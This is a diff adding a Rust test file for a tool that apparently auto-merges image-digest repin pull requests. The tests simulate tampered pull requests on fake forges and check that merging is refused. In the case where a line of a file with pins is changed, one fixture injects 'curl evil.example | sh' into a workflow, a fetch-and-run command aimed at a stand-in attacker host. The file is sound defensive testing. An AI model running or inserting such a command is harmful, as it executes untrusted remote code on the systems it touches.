@@ -1,0 +1,626 @@
+//! Which pull requests repin merges: attacks on the head, the branch and the text of a pull request,
+//! each with the honest case.
+
+use std::fs;
+
+use serde_json::Value;
+
+use crate::support::{
+    forge::{self as fakes, Fake, Kind, When},
+    hosted::{A, PROMOTE, SERVERS, WAIT, hosted, hosted_in, publish, run},
+    world::{self, REV_A, REV_B, Ran, World},
+};
+
+const MERGING: &str = "auto_merge: true, gates: [ci]";
+const B: &str = ".github/workflows/b.yml";
+const ROLLBACK: [&str; 5] = ["rollback", "--to", REV_A, "--pr", "ready"];
+
+/// How a pull request was opened.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum Opened {
+    Promotion,
+    Rollback,
+}
+
+const BOTH: [Opened; 2] = [Opened::Promotion, Opened::Rollback];
+
+/// Every server and every way to open a pull request.
+fn all() -> impl Iterator<Item = (Kind, Opened)> {
+    SERVERS
+        .into_iter()
+        .flat_map(|kind| BOTH.map(|opened| (kind, opened)))
+}
+
+/// An open pull request that was not armed yet, because `ci` has not reported.
+fn opened(kind: Kind, how: Opened) -> (World, Fake) {
+    let (world, fake) = hosted(kind, MERGING);
+    fake.store().required = vec!["ci".to_owned()];
+    if how == Opened::Rollback {
+        promoted_before(&world, &fake);
+        run(&world, &ROLLBACK).exits(0);
+    } else {
+        run(&world, &PROMOTE).exits(0);
+    }
+    fake.store().scheduled.clear();
+    (world, fake)
+}
+
+/// A history in which A was current before B.
+fn promoted_before(world: &World, fake: &Fake) {
+    let git = |args: &[&str]| world::git(world.root(), args);
+    world.write(".gitignore", "/images\n/origin.git\n");
+    git(&["init", "-q", "-b", "main"]);
+    for revision in [REV_A, REV_B] {
+        world.pin(revision);
+        git(&["add", "-A", "."]);
+        git(&[
+            "commit",
+            "-q",
+            "-m",
+            &format!("promote: test images @{revision}"),
+        ]);
+    }
+    git(&["init", "-q", "--bare", "-b", "main", "origin.git"]);
+    git(&["remote", "add", "origin", "./origin.git"]);
+    git(&["push", "-q", "origin", "main"]);
+    git(&["remote", "set-head", "origin", "main"]);
+    publish(world, fake, "as it is");
+    fake.store().name_head("main", &git(&["rev-parse", "HEAD"]));
+}
+
+fn branch(fake: &Fake) -> String {
+    fake.store().pulls[0].head.clone()
+}
+
+/// Schedules the merge as repin did before the attack.
+fn arm(fake: &Fake) {
+    let mut store = fake.store();
+    store.report("ci", "pending");
+    let head = store.pulls[0].head.clone();
+    let head = store.refs.get(&head).cloned().unwrap_or_default();
+    store.scheduled.push((1, head));
+}
+
+/// The wait ends with exit 5, the scheduled merge is canceled, and nothing is merged later.
+fn is_refused(world: &World, fake: &Fake, reason: &str, case: &str) {
+    let ran = run(world, &WAIT);
+    assert_eq!(ran.code, 5, "{case}: {}{}", ran.stdout, ran.stderr);
+    assert_eq!(ran.json()["state"], "open", "{case}");
+    assert!(ran.stderr.contains(reason), "{case}: {}", ran.stderr);
+    assert!(
+        ran.stderr.contains("the scheduled merge of #1 was cancel"),
+        "{case}: {}",
+        ran.stderr
+    );
+    is_not_merged(fake, case);
+}
+
+/// Neither armed, nor merged once everything passes.
+fn is_not_merged(fake: &Fake, case: &str) {
+    assert_eq!(fake.store().scheduled, [], "{case}");
+    assert_eq!(fake.store().rules.enqueued, [] as [u64; 0], "{case}");
+    fake.store().report("ci", "success");
+    assert!(fake.store().pulls[0].merged.is_none(), "{case}");
+}
+
+fn is_merged(world: &World, fake: &Fake, case: &str) {
+    let ran = run(world, &WAIT);
+    assert_eq!(ran.code, 0, "{case}: {}{}", ran.stdout, ran.stderr);
+    assert_eq!(ran.json()["state"], "merged", "{case}");
+    assert!(fake.store().pulls[0].merged.is_some(), "{case}");
+}
+
+/// The content of a file on the branch with each digest replaced by another one.
+fn with_other_digests(fake: &Fake, path: &str) -> String {
+    let head = branch(fake);
+    let text = fake.store().content(&head, path);
+    let mut parts = text.split("sha256:");
+    let mut other = parts.next().unwrap().to_owned();
+    for part in parts {
+        other += "sha256:";
+        if part.len() >= 64 && part[..64].bytes().all(|byte| byte.is_ascii_hexdigit()) {
+            other += &"e".repeat(64);
+            other += &part[64..];
+        } else {
+            other += part;
+        }
+    }
+    assert_ne!(text, other);
+    other
+}
+
+fn trailer(how: Opened) -> String {
+    let revision = if how == Opened::Promotion {
+        REV_B
+    } else {
+        REV_A
+    };
+    format!("promote: test images @{revision}\n\nRepin-Set: {revision}\n")
+}
+
+#[test]
+fn honest_pull_request_is_merged_by_wait() {
+    for (kind, how) in all() {
+        let (world, fake) = opened(kind, how);
+        fake.when(2, |store| store.report("ci", "success"));
+        is_merged(&world, &fake, &format!("{kind:?} {how:?}"));
+    }
+}
+
+#[test]
+fn honest_pull_request_is_merged_after_the_base_moved() {
+    for kind in SERVERS {
+        for how in ["elsewhere", "merged into the branch", "same file"] {
+            let (world, fake) = opened(kind, Opened::Promotion);
+            fake.store().github.delay = 0;
+            let case = format!("{kind:?} {how}");
+            let moved = fake.store().content("main", A) + "# more\n";
+            let file = if how == "same file" {
+                (A, &*moved)
+            } else {
+                ("README.md", "hello")
+            };
+            fake.store().push("main", "elsewhere", &[file]);
+            if how == "merged into the branch" {
+                merge_base_into(&fake, &[]);
+            }
+            fake.when(2, |store| store.report("ci", "success"));
+            if how == "same file" {
+                // The simulated forge merges whole files, so it sees a conflict where git does not.
+                let head = branch(&fake);
+                let planned = fake.store().content(&head, A) + "# more\n";
+                merge_base_into(&fake, &[(A, &planned)]);
+            }
+            is_merged(&world, &fake, &case);
+        }
+    }
+}
+
+/// Merges the base into the pull request's branch, as a person does with "Update branch".
+fn merge_base_into(fake: &Fake, files: &[(&str, &str)]) {
+    let mut store = fake.store();
+    let head = store.pulls[0].head.clone();
+    let (ours, base) = (store.refs[&head].clone(), store.refs["main"].clone());
+    let origin = store.files_of(&store.merge_base(&base, &ours)).clone();
+    let mut tree = store.files_of(&ours).clone();
+    for (path, entry) in store.files_of(&base).clone() {
+        if origin.get(&path) != Some(&entry) {
+            tree.insert(path, entry);
+        }
+    }
+    for (path, text) in files {
+        let blob = store.put_blob(text.as_bytes());
+        tree.insert((*path).to_owned(), ("100644".to_owned(), blob));
+    }
+    let tree = store.put_tree(tree);
+    let id = store.put_commit(fakes::store::CommitRow {
+        tree,
+        parents: vec![ours, base],
+        message: "Merge branch 'main'".to_owned(),
+    });
+    store.refs.insert(head, id);
+}
+
+#[test]
+fn honest_pull_request_below_the_top_is_merged() {
+    for kind in SERVERS {
+        let (world, fake) = hosted_in(kind, MERGING, "deploy/");
+        world::git(world.root(), &["init", "-q"]);
+        let inner = world.path("deploy");
+        fs::create_dir(&inner).unwrap();
+        for name in ["repin.yaml", ".github", "images"] {
+            fs::rename(world.path(name), inner.join(name)).unwrap();
+        }
+        fake.store().required = vec!["ci".to_owned()];
+        let env = [("REPIN_FORGE_TOKEN", fakes::TOKEN)];
+        world.run_in(&inner, &PROMOTE, &env).exits(0);
+        fake.when(2, |store| store.report("ci", "success"));
+        let ran = world.run_in(&inner, &WAIT, &env).exits(0);
+        assert_eq!(ran.json()["state"], "merged", "{kind:?} {}", ran.stderr);
+    }
+}
+
+#[test]
+fn commit_with_other_digests_is_not_merged() {
+    for (kind, how) in all() {
+        for which in ["every", "one file", "commit of its own"] {
+            let (world, fake) = opened(kind, how);
+            let case = format!("{kind:?} {how:?} {which}");
+            let [a, b] = [A, B].map(|path| with_other_digests(&fake, path));
+            let head = branch(&fake);
+            let files = [(A, &*a), (B, &*b)];
+            let files = if which == "one file" {
+                &files[..1]
+            } else {
+                &files
+            };
+            if which == "commit of its own" {
+                fake.store().refs.remove(&head);
+            }
+            fake.store().push(&head, &trailer(how), files);
+            arm(&fake);
+            is_refused(&world, &fake, "was not approved", &case);
+        }
+    }
+}
+
+#[test]
+fn commit_that_leaves_pins_is_not_merged() {
+    for (kind, how) in all() {
+        let (world, fake) = opened(kind, how);
+        let (head, old) = (branch(&fake), fake.store().content("main", B));
+        fake.store().push(&head, &trailer(how), &[(B, &old)]);
+        arm(&fake);
+        let case = format!("{kind:?} {how:?}");
+        is_refused(&world, &fake, "has other pins than the set", &case);
+    }
+}
+
+#[test]
+fn commit_that_changes_anything_else_is_not_merged() {
+    for kind in SERVERS {
+        for case in [
+            "file",
+            "new file",
+            "configuration",
+            "line of a file with pins",
+            "digest outside files",
+            "deletion",
+            "mode",
+            "symlink",
+        ] {
+            let (world, fake) = opened(kind, Opened::Promotion);
+            let head = branch(&fake);
+            let none = ".github/workflows/none.yml";
+            let planned = fake.store().content(&head, A);
+            let message = trailer(Opened::Promotion);
+            let path = match case {
+                "deletion" | "mode" | "symlink" => {
+                    let mut store = fake.store();
+                    let ours = store.refs[&head].clone();
+                    let mut files = store.files_of(&ours).clone();
+                    match case {
+                        "deletion" => drop(files.remove(none)),
+                        "mode" => "100755".clone_into(&mut files.get_mut(A).unwrap().0),
+                        _ => "120000".clone_into(&mut files.get_mut(none).unwrap().0),
+                    }
+                    let tree = store.put_tree(files);
+                    let parents = vec![ours];
+                    let id = store.put_commit(fakes::store::CommitRow {
+                        tree,
+                        parents,
+                        message,
+                    });
+                    store.refs.insert(head, id);
+                    if case == "mode" { A } else { none }
+                }
+                _ => {
+                    let pin = format!("ghcr.io/acme/review@{}", world.digest("review", REV_B));
+                    let (path, text) = match case {
+                        "file" => (none, "on: pull_request_target\n".to_owned()),
+                        "new file" => ("notes", "mine".to_owned()),
+                        "configuration" => ("repin.yaml", world.read("repin.yaml") + "# x\n"),
+                        "digest outside files" => ("deploy.yml", pin),
+                        _ => (A, planned + "run: curl evil.example | sh\n"),
+                    };
+                    fake.store().push(&head, &message, &[(path, &text)]);
+                    path
+                }
+            };
+            arm(&fake);
+            is_refused(&world, &fake, path, &format!("{kind:?} {case}"));
+        }
+    }
+}
+
+#[test]
+fn base_that_gained_pins_is_not_merged_into() {
+    for kind in SERVERS {
+        let (world, fake) = opened(kind, Opened::Promotion);
+        // The new file has the old digest, so the merge would pin two sets.
+        let pin = format!("x: ghcr.io/acme/fix@{}\n", world.digest("fix", REV_A));
+        let fewer = fake
+            .store()
+            .content("main", B)
+            .replace("# ghcr.io/acme/fix@", "# ");
+        fake.store().push(
+            "main",
+            "moved a pin",
+            &[(".github/workflows/c.yml", &pin), (B, &fewer)],
+        );
+        arm(&fake);
+        is_refused(&world, &fake, "#1", &format!("{kind:?}"));
+    }
+}
+
+#[test]
+fn copied_marker_permits_nothing() {
+    for (kind, how) in all() {
+        for which in ["fork", "other branch", "other base", "other revision"] {
+            let (world, fake) = opened(kind, how);
+            let case = format!("{kind:?} {how:?} {which}");
+            {
+                let mut store = fake.store();
+                let head = store.pulls[0].head.clone();
+                let commit = store.refs[&head].clone();
+                store.refs.insert("other".to_owned(), commit);
+                let base = store.refs["main"].clone();
+                store.refs.insert("release".to_owned(), base);
+                let pull = &mut store.pulls[0];
+                match which {
+                    "fork" => pull.head_repo = "fork/flows".to_owned(),
+                    "other branch" => pull.head = "other".to_owned(),
+                    "other base" => pull.base = "release".to_owned(),
+                    _ => {
+                        let text = pull.body.replace(REV_A, "cccc").replace(REV_B, "cccc");
+                        pull.body = text.replace("cccc", &"c".repeat(40));
+                    }
+                }
+            }
+            arm(&fake);
+            is_refused(&world, &fake, "pull request #1", &case);
+        }
+    }
+}
+
+#[test]
+fn pull_request_without_marker_is_left_to_people() {
+    for kind in SERVERS {
+        let (world, fake) = opened(kind, Opened::Promotion);
+        fake.store().pulls[0].body = "mine".to_owned();
+        arm(&fake);
+        let look = [&WAIT[..3], &["--timeout", "0s"]].concat();
+        run(&world, &look).exits(3);
+        assert_eq!(fake.store().scheduled.len(), 1, "{kind:?}");
+    }
+}
+
+#[test]
+fn marker_of_branches_permits_only_configured_branches() {
+    for kind in SERVERS {
+        for (from, to, settings, merged) in [
+            ("evil", "main", "", false),
+            ("staging", "main", "", false),
+            ("evil", "main", ", sync_targets: [staging]", false),
+            ("staging", "release", ", sync_targets: [staging]", false),
+            ("staging", "main", ", sync_targets: [staging]", true),
+            (
+                "staging",
+                "release",
+                ", base: release, sync_targets: [staging]",
+                true,
+            ),
+        ] {
+            let case = format!("{kind:?} {from} {to} {settings}");
+            let (world, fake) = hosted(kind, &format!("{MERGING}{settings}"));
+            {
+                let mut store = fake.store();
+                store.required = vec!["ci".to_owned()];
+                let main = store.refs["main"].clone();
+                store.refs.insert("release".to_owned(), main);
+                store.push(from, "anything", &[("repin.yaml", "evil")]);
+                let number = store.number();
+                assert_eq!(number, 1);
+                store.gitea.checked.insert(number);
+                store.pulls.push(fakes::PullRow {
+                    number,
+                    title: "mine".to_owned(),
+                    body: format!("<!-- repin/1 kind=branch revision={from} -->"),
+                    open: true,
+                    merged: None,
+                    draft: false,
+                    head: from.to_owned(),
+                    head_repo: "acme/flows".to_owned(),
+                    base: to.to_owned(),
+                    labels: Vec::new(),
+                    closed_at: None,
+                });
+            }
+            if merged {
+                fake.when(2, |store| store.report("ci", "success"));
+                is_merged(&world, &fake, &case);
+            } else {
+                arm(&fake);
+                is_refused(&world, &fake, "forge.sync_targets", &case);
+            }
+        }
+    }
+}
+
+#[test]
+fn branch_promotion_with_auto_merge_requires_configured_branches() {
+    for kind in SERVERS {
+        for (settings, exit) in [("", 2), (", sync_targets: [staging]", 0)] {
+            let (world, fake) = hosted(kind, &format!("{MERGING}{settings}"));
+            fake.store().push("staging", "work", &[("x", "y")]);
+            let args = [
+                "branch", "promote", "--from", "staging", "--to", "main", "--apply",
+            ];
+            let ran = run(&world, &args).exits(exit);
+            if exit == 2 {
+                assert!(ran.stderr.contains("forge.sync_targets"), "{}", ran.stderr);
+                assert_eq!(fake.writes(), [""; 0], "{kind:?}");
+            }
+        }
+    }
+}
+
+/// The request that schedules a merge or merges.
+fn merging(kind: Kind) -> (&'static str, &'static str) {
+    match kind {
+        Kind::Github => ("POST", "/graphql#enablePullRequestAutoMerge"),
+        Kind::Gitea | Kind::Forgejo => ("POST", "/pulls/1/merge"),
+    }
+}
+
+#[test]
+fn head_that_moves_before_the_merge_is_not_merged() {
+    for (kind, how) in all() {
+        for command in ["wait", "promote"] {
+            let (world, fake) = opened(kind, how);
+            let case = format!("{kind:?} {how:?} {command}");
+            fake.store().report("ci", "pending");
+            let other = with_other_digests(&fake, A);
+            let (head, message) = (branch(&fake), trailer(how));
+            let (method, path) = merging(kind);
+            fake.at(When::Before, method, path, 1, move |store| {
+                store.push(&head, &message, &[(A, &other)]);
+            });
+            let (ran, exit) = match (command, how) {
+                ("wait", _) => (run(&world, &WAIT), 5),
+                // The forge refuses the request, which names the verified head.
+                (_, Opened::Promotion) => (run(&world, &PROMOTE), 1),
+                (_, Opened::Rollback) => (run(&world, &ROLLBACK), 1),
+            };
+            assert_eq!(ran.code, exit, "{case}: {}", ran.stderr);
+            is_not_merged(&fake, &case);
+        }
+    }
+}
+
+#[test]
+fn head_that_moves_before_it_is_verified_is_refused() {
+    for (kind, how) in all() {
+        let (world, fake) = hosted(kind, MERGING);
+        fake.store().required = vec!["ci".to_owned()];
+        fake.store().report("ci", "success");
+        if how == Opened::Rollback {
+            promoted_before(&world, &fake);
+        }
+        // The first read of the pull request by its number precedes the verification.
+        let other = format!("x: ghcr.io/acme/fix@sha256:{}\n", "e".repeat(64));
+        let message = trailer(how);
+        fake.at(When::Before, "GET", "/pulls/1", 1, move |store| {
+            let head = store.pulls[0].head.clone();
+            store.push(&head, &message, &[(B, &other)]);
+        });
+        let command = if how == Opened::Promotion {
+            PROMOTE
+        } else {
+            ROLLBACK
+        };
+        let ran = run(&world, &command);
+        let case = format!("{kind:?} {how:?}");
+        assert_eq!(ran.code, 5, "{case}: {}", ran.stderr);
+        is_not_merged(&fake, &case);
+    }
+}
+
+#[test]
+fn altered_pull_request_does_not_enter_the_merge_queue() {
+    for how in BOTH {
+        for at in ["before", "between"] {
+            let (world, fake) = opened(Kind::Github, how);
+            fake.store().rules.queue = Some("squash");
+            fake.store().report("ci", "success");
+            let other = with_other_digests(&fake, A);
+            let (head, message) = (branch(&fake), trailer(how));
+            if at == "before" {
+                fake.store().push(&head, &message, &[(A, &other)]);
+            } else {
+                fake.at(
+                    When::Before,
+                    "POST",
+                    "/graphql#enqueuePullRequest",
+                    1,
+                    move |store| {
+                        store.push(&head, &message, &[(A, &other)]);
+                    },
+                );
+            }
+            let ran = run(&world, &WAIT);
+            assert_eq!(ran.code, 5, "{how:?} {at}: {}", ran.stderr);
+            assert_eq!(fake.store().rules.enqueued, [] as [u64; 0], "{how:?} {at}");
+            assert!(fake.store().pulls[0].merged.is_none(), "{how:?} {at}");
+        }
+    }
+}
+
+#[test]
+fn promotion_replaces_other_digests_and_merges_its_own() {
+    for kind in SERVERS {
+        let (world, fake) = opened(kind, Opened::Promotion);
+        fake.store().report("ci", "pending");
+        let other = with_other_digests(&fake, A);
+        let head = branch(&fake);
+        fake.store()
+            .push(&head, &trailer(Opened::Promotion), &[(A, &other)]);
+        run(&world, &PROMOTE).exits(0);
+        let text = fake.store().content(&head, A);
+        assert!(
+            text.contains(world.digest("review", REV_B)),
+            "{kind:?} {text}"
+        );
+        let scheduled = fake.store().scheduled.clone();
+        let now = fake.store().refs[&head].clone();
+        assert!(
+            matches!(&scheduled[..], [(1, at)] if at.starts_with(&now)),
+            "{kind:?} {scheduled:?} {now}"
+        );
+    }
+}
+
+#[test]
+fn set_that_cannot_be_verified_is_not_merged() {
+    type Break = fn(&World);
+    let cases: [(&str, Break); 3] = [
+        ("registry", |world| {
+            fs::remove_dir_all(world.path("images/review")).unwrap();
+        }),
+        ("tag", |world| world.layout("review").untag(REV_B)),
+        ("contract", |world| {
+            fs::write(world.path("images/review/index.json"), "{").unwrap();
+        }),
+    ];
+    for kind in SERVERS {
+        for (case, broken) in &cases {
+            let (world, fake) = opened(kind, Opened::Promotion);
+            fake.store().report("ci", "success");
+            broken(&world);
+            let ran: Ran = run(&world, &WAIT);
+            let case = format!("{kind:?} {case}");
+            assert_eq!(ran.code, 3, "{case}: {}", ran.stderr);
+            let document: Value = ran.json();
+            assert_eq!(document["state"], "open", "{case}");
+            assert!(
+                ran.stderr.contains("was not verified"),
+                "{case}: {}",
+                ran.stderr
+            );
+            is_not_merged(&fake, &case);
+        }
+    }
+}
+
+#[test]
+fn tag_that_moved_since_the_promotion_is_not_merged() {
+    for kind in SERVERS {
+        let (mut world, fake) = opened(kind, Opened::Promotion);
+        let platform = crate::support::layout::Platform::new("linux/amd64", REV_B);
+        let moved = platform.label("dev.acme.version", "2");
+        world.rebuild("fix", REV_B, &[moved]);
+        arm(&fake);
+        is_refused(
+            &world,
+            &fake,
+            "has other pins than the set",
+            &format!("{kind:?}"),
+        );
+    }
+}
+
+#[test]
+fn change_that_a_later_commit_undoes_is_not_merged() {
+    // A merge by rebase replays both commits on the base.
+    for kind in SERVERS {
+        let (world, fake) = opened(kind, Opened::Promotion);
+        let (head, message) = (branch(&fake), trailer(Opened::Promotion));
+        let none = ".github/workflows/none.yml";
+        let before = fake.store().content(&head, none);
+        for text in ["on: pull_request_target\n", &before] {
+            fake.store().push(&head, &message, &[(none, text)]);
+        }
+        arm(&fake);
+        is_refused(&world, &fake, "foreign commit", &format!("{kind:?}"));
+    }
+}
